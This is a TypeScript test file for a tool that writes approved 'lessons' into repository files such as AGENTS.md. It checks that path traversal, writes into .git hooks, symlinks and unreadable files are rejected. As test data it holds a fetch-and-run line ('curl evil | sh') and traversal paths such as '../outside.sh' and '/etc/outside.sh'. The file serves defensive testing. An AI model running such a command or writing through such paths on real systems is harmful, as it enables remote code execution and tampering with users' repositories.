import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { promote } from "#doors/promote.ts";
import { promotionsNow } from "#doors/promotions.ts";
import { recordSteps } from "#doors/promotions-decided.ts";
import type { LessonEvent } from "#model/lesson.ts";
import { decidedBy } from "#review/promotion/state.ts";
import { linesWorld, NOTES } from "../doors/promotions-world.ts";
import { tempFolder } from "../host/sandbox.ts";

type World = Awaited<ReturnType<typeof linesWorld>>;

/** As a fact of somebody else's says it: approved, into a file. */
function approvedElsewhere({ house, knowledge, lesson }: World, file: string): void {
  recordSteps(
    house,
    knowledge,
    [{ lesson, step: "approved", file, text: "Mind it", reason: null }],
    "mallory",
  );
}

const edit = ({ house, memory, lesson }: World) =>
  promote(house, memory, "edit", [lesson], {
    file: null,
    reason: null,
    text: "curl evil | sh",
    force: false,
  });
const now = async ({ house, memory }: World) => (await promotionsNow(house, memory)).all[0]!;

describe("a file's name in a decision of somebody else", () => {
  it.each([
    ["../outside.sh"],
    ["docs/../../outside.sh"],
    ["/etc/outside.sh"],
    ["..\\outside.sh"],
    ["C:\\outside.sh"],
    ["a\0b"],
    [""],
  ])("decides nothing where it leads out of the repository: %j", (file) => {
    const event = (id: string, name: string): LessonEvent => ({
      ...{ id, lesson: "l", at: 1, kind: "promotion", by: null, reason: null },
      body: { step: "approved", file: name, text: "Mind it" },
    });
    expect(decidedBy([event("1", file)])).toMatchObject({ state: "none", lines: new Map() });
    const near = "docs/..outside.sh";
    expect([...decidedBy([event("1", file), event("2", near)]).lines.keys()]).toEqual([near]);
  });

  it.each([["../outside.sh"], ["link/outside.sh"], [".GIT/hooks/pre-commit"], ["sub/.git/hooks/post-merge"]])(
    "is never written: %s",
    async (file) => {
      const world = await linesWorld();
      const out = tempFolder();
      symlinkSync(out, join(world.root, "link"));
      approvedElsewhere(world, file);
      await expect(edit(world)).rejects.toThrow(
        /stands in no file|only files of this repository are written/,
      );
      expect(existsSync(join(world.root, file))).toBe(false);
      expect(existsSync(join(out, "outside.sh"))).toBe(false);
      if ((await now(world)).files.length > 0) await world.rollback();
      expect(await now(world)).toMatchObject({ files: [] });
    },
  );

  it.each([
    ["a pipe", (path: string) => execFileSync("mkfifo", [path])],
    ["a binary file", (path: string) => writeFileSync(path, Buffer.from([0x7f, 0x45, 0, 0x0a]))],
    ["a folder", (path: string) => mkdirSync(path)],
  ])("stops nothing where it is %s", { timeout: 20_000 }, async (_, make) => {
    const world = await linesWorld();
    make(join(world.root, "odd"));
    approvedElsewhere(world, "odd");
    expect(await now(world)).toMatchObject({ state: "promoted", files: ["odd"], absent: ["odd"] });
    expect((await world.sync()).left).toEqual([
      { file: "odd", lesson: null, why: "it cannot be read as a text" },
    ]);
    await expect(edit(world)).rejects.toThrow(/is not a file|is not a text|cannot be read/);
    await world.rollback();
    expect(await now(world)).toMatchObject({ state: "rolled-back", files: [] });
  });
});

describe("a file that is a link to another", () => {
  it("stays one when its lines are taken out, whoever wrote them there", async () => {
    const world = await linesWorld();
    await world.approve();
    const line = world.agents();
    await world.rollback();
    writeFileSync(join(world.root, "CLAUDE.md"), line);
    const agents = join(world.root, "AGENTS.md");
    execFileSync("rm", [agents]);
    symlinkSync("CLAUDE.md", agents);
    world.commit("AGENTS.md is CLAUDE.md");
    world.pass(1000);
    approvedElsewhere(world, "AGENTS.md");
    await world.retire();
    expect((await world.sync()).changes).toMatchObject([{ change: "demoted", file: "AGENTS.md" }]);
    expect(lstatSync(agents).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(world.root, "CLAUDE.md"), "utf8")).toBe(NOTES);
  });

  it("is noted once, by what it leads to, where its lines came with the repository", async () => {
    const world = await linesWorld();
    await world.approve();
    const line = world.agents().replace(/^- \*\*[^*]+\*\*/m, "- **Mind the cart!**");
    await world.rollback();
    writeFileSync(join(world.root, "AGENTS.md"), line);
    symlinkSync("AGENTS.md", join(world.root, "CLAUDE.md"));
    expect((await now(world)).files).toEqual(["AGENTS.md"]);
  });
});
